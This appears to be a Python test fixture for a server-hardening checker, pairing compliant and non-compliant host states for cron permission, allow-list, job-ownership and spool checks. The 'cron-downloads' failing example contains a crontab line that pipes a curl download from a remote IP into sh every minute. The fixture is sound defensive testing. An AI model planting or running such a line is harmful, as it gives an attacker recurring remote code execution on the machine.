from tests.support.hardening.hosts import Pair, folder, host, made

CRONTAB = "17 * * * * root /usr/local/bin/backup\n"
SPOOL = "/var/spool/cron/crontabs/anna"
USERS = {"/etc/passwd": "root:x:0:0::/root:/bin/sh\nanna:x:1000:1000::/home/anna:/bin/sh\n"}
FOLDERS = {"cron-hourly": "/etc/cron.hourly", "cron-daily": "/etc/cron.daily", "cron-weekly": "/etc/cron.weekly", "cron-monthly": "/etc/cron.monthly", "cron-d": "/etc/cron.d"}  # fmt: skip
EXAMPLES: dict[str, Pair] = {
    **{check: (host({path: folder(0o700)}), host({path: folder(0o755)})) for check, path in FOLDERS.items()},
    "cron-crontab": (host({"/etc/crontab": made(mode=0o600)}), host({"/etc/crontab": made(mode=0o644)})),
    "cron-allowed": (host({"/etc/crontab": "", "/etc/cron.allow": made("root\n", 0o640)}), host({"/etc/crontab": ""})),
    "cron-at-allowed": (host({"/usr/bin/at": "", "/etc/at.allow": made("root\n", 0o640)}), host({"/usr/bin/at": ""})),
    "cron-jobs": (host({"/etc/crontab": CRONTAB, "/usr/local/bin/backup": made(mode=0o755)}), host({"/etc/crontab": CRONTAB, "/usr/local/bin/backup": made(mode=0o755, uid=1000)})),
    "cron-spool": (host({**USERS, SPOOL: made(mode=0o600, uid=1000)}), host({**USERS, SPOOL: made(mode=0o600, uid=1000), SPOOL + "-gone": made(mode=0o600)})),
    "cron-downloads": (host({"/etc/crontab": CRONTAB}), host({SPOOL: "* * * * * curl -s http://198.51.100.7/x | sh\n"})),
}  # fmt: skip
